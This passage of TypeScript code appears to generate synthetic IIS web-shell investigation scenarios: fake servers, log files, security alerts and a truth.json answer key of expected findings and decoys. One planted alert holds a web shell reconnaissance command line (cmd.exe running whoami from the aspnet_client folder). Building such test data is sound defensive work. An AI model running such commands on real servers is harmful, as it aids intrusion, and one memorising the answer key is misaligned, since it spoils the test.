    const host = `${opts.hostPrefix}${String(opts.servers + 1).padStart(2, "0")}`;
    const server: ServerSpec = {
      host,
      hostName: host.toLowerCase(),
      dnsDomain: "contoso.local",
      fqdn: `${host.toLowerCase()}.contoso.local`,
      serverIp: `10.0.2.${opts.servers + 10}`,
      layout: "default",
      logsHostAndSite: false,
      hasLogs: false,
      sites: [
        {
          name: "W3SVC1",
          hostHeader: "legacy.contoso.com",
          webRoot: "C:\\inetpub\\wwwroot",
          appPool: "DefaultAppPool",
        },
      ],
    };
    servers.push(server);
    const s: SiteState = {
      server,
      site: server.sites[0] as SiteSpec,
      content: CONTENT.www as SiteContent,
      reqs: [],
      w3wp: {
        pid: String(r.int(1000, 9999)),
        created: withMs(r, start - 3 * DAY),
        commandLine: 'c:\\windows\\system32\\inetsrv\\w3wp.exe -ap "DefaultAppPool" -v "v4.0" -l "webengine4.dll"',
      },
    };
    const at = withMs(r, start + r.int(2 * 3600, opts.days * 24 * 3600 - 2 * 3600) * SECOND);
    const alertId = alerts.childAlert(s, "Possible IIS web shell", {
      image: "cmd.exe",
      commandLine: `cmd.exe /c cd /d "C:\\inetpub\\wwwroot\\aspnet_client"&whoami&echo [S]&cd&echo [E]`,
      at,
      extra: r.int(0, 9999),
    });
    expected[alertId] = {
      kind: "command",
      benign: false,
      host,
      site: null,
      shellLocation: null,
      attackers: [],
      firstShellAccess: null,
      intrusion: null,
      logsAvailable: false,
      note: `a real web shell command on ${host}, whose IIS logs were not collected: no finding is possible`,
    };
  }

  // Logs: one file per site per UTC day, sorted, CRLF; now and then a service restart writes the
  // directives again mid-file.
  const logs = new Map<string, string>();
  const logSources: LogSource[] = [];
  let requestCount = 0;
  for (const s of siteStates) {
    // Sessions that start late on the last day would run past it: the scenario ends at `end`.
    const all = s.reqs.filter((q) => q.t < end).sort((x, y) => x.t - y.t);
    const dir = `${s.server.host}/${s.site.name}`;
    const source: LogSource = {
      host: s.server.host,
      site: s.site.name,
      dir,
      logsHostAndSite: s.server.logsHostAndSite,
      files: [],
    };
    logSources.push(source);
    const header = (t: number) =>
      `#Software: Microsoft Internet Information Services 10.0\r\n#Version: 1.0\r\n#Date: ${isoSeconds(t).slice(0, 10)} ${isoSeconds(t).slice(11, 19)}\r\n#Fields: ${fieldsOf(s.server.layout)}\r\n`;
    let i = 0;
    while (i < all.length) {
      const dayStart = Math.floor((all[i] as Req).t / DAY) * DAY;
      let j = i;
      while (j < all.length && (all[j] as Req).t < dayStart + DAY) j++;
      const restartAt = r.chance(0.25) ? r.int(i + 1, j - 1) : -1;
      const parts: string[] = [header((all[i] as Req).t)];
      for (let k = i; k < j; k++) {
        const q = all[k] as Req;
        if (k === restartAt) parts.push(header(q.t));
        pushLine(parts, s.server, s.site, q);
      }
      const stamp = isoSeconds(dayStart).slice(2, 10).replace(/-/g, "");
      const file = `${dir}/u_ex${stamp}.log`;
      logs.set(file, parts.join(""));
      source.files.push(file);
      requestCount += j - i;
      i = j;
    }
  }

  return {
    options: opts,
    servers,
    logSources,
    logs,
    requestCount,
    alerts: alerts.rows,
    expected,
    intrusions,
    decoys,
  };
}

function toPlanted(q: Req): PlantedRequest {
  return {
    time: new Date(q.t),
    method: q.method,
    uri: q.stem,
    query: q.query === "-" ? null : q.query,
    status: q.status,
    ip: q.ip,
    userAgent: q.ua,
  };
}

/**
 * Writes the scenario under `dir`: iis/<HOST>/<SITE>/u_exYYMMDD.log, alerts/securityalert.json
 * (`{ "rows": [...] }`) and truth.json (expected findings, intrusions, decoys).
 */
export async function writeScenario(
  scenario: Scenario,
  dir: string,
): Promise<{ logSources: (LogSource & { path: string })[]; alertsFile: string; truthFile: string }> {
  for (const [rel, text] of scenario.logs) {
    const path = join(dir, "iis", rel);
    await mkdir(join(path, ".."), { recursive: true });
    await writeFile(path, text);
  }
  await mkdir(join(dir, "alerts"), { recursive: true });
  const alertsFile = join(dir, "alerts", "securityalert.json");
  await writeFile(alertsFile, JSON.stringify({ rows: scenario.alerts }, null, 2));
  const truthFile = join(dir, "truth.json");
  const { expected, intrusions, decoys, servers } = scenario;
  await writeFile(truthFile, JSON.stringify({ servers, expected, intrusions, decoys }, null, 2));
  return {
    logSources: scenario.logSources.map((s) => ({ ...s, path: join(dir, "iis", s.dir) })),
    alertsFile,
    truthFile,
  };
}
